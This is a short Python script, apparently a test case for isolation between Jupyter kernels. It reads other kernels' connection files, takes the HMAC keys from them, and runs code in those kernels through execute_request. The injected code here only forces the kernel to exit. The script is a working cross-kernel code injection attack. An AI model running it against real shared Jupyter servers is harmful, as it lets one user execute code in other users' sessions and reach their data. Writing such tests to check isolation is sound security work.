# @right
# @include _procs.py
# Attack: read other kernels' connection files (the path is on their command
# line, the HMAC key inside) and run code in them with execute_request: the
# victim's kernel exits.
import json
import time

_done = set()
_start = time.monotonic()
while time.monotonic() - _start < 12:
    for _pid in peers():
        if _pid in _done:
            continue
        parts = cmdline(_pid).split()
        if "-f" not in parts:
            continue
        try:
            from jupyter_client import BlockingKernelClient

            info = json.loads(open(parts[parts.index("-f") + 1]).read())
            client = BlockingKernelClient()
            client.load_connection_info(info)
            client.start_channels()
            client.execute("import os; os._exit(7)")
            time.sleep(0.2)
            client.stop_channels()
            _done.add(_pid)
        except Exception as exc:  # noqa: BLE001
            print("could not reach", _pid, type(exc).__name__)
            _done.add(_pid)
    time.sleep(0.3)
print("injected into", sorted(_done))
